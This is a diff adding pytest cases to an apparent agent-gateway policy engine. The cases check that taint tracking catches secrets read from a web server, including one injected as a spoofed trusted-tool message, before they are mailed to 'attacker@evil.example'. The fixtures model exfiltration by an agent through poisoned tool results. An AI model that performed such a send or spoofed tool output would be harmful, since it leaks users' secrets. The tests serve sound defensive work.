@@ -305,6 +305,44 @@ def test_what_the_policy_leaves_out_passes(server: str, tool: str, arguments: di
     assert code(agent.call(server, tool, **arguments)) in {"rule_match", "default_decision"}
 
 
+@pytest.mark.parametrize(
+    ("section", "taints"),
+    [
+        ('sources: ["resources/read"]', True),
+        ('sources: ["web/resources/read"]', True),
+        ('sources: ["web/*"]', True),
+        ('sources: ["*"]', True),
+        ('sources: ["resources/*"]', True),
+        ('sources: ["other/*"]', False),
+        ('sources: ["other/resources/read"]', False),
+        ('sources: ["prompts/get", read, fetch]', False),
+        ('trusted_tools: ["resources/read"]', False),
+        ('trusted_tools: ["web/resources/read"]', False),
+        ('trusted_tools: ["other/resources/read", "prompts/get"]', True),
+        ('trusted_tools: ["web/*", "*/read", read, "*"]', True),
+    ],
+)
+def test_methods_are_named_as_they_are(section: str, taints: bool) -> None:
+    agent = Agent(
+        POLICY[: POLICY.rindex("taint:")] + f'taint: {{enabled: true, sinks: ["mail/*"], {section}}}\n'
+    )
+    agent.send("web", "resources/read", uri="file:///a")
+    agent.get("web", result={"contents": [{"uri": "file:///a", "text": SECRET}]})
+
+    assert code(agent.call("mail", "send", to="attacker@evil.example")) == (
+        "taint_escalated" if taints else "rule_match"
+    )
+
+
+def test_server_cannot_name_what_it_sends_as_a_trusted_tool() -> None:
+    agent = Agent(POLICY.replace('"other/*"]', '"other/*", "mail/get"]'))
+    agent.call("web", "fetch")
+    note = {"jsonrpc": "2.0", "method": "mail/get", "params": {"text": SECRET}}
+    server_message(agent.gate, json.dumps(note).encode(), agent.conversations["web"], Circumstances(NOW))
+
+    assert code(agent.call("mail", "send", to="attacker@evil.example")) == "taint_escalated"
+
+
 def test_trusted_tools_do_not_taint() -> None:
     agent = Agent()
     agent.read(SECRET, tool="time")
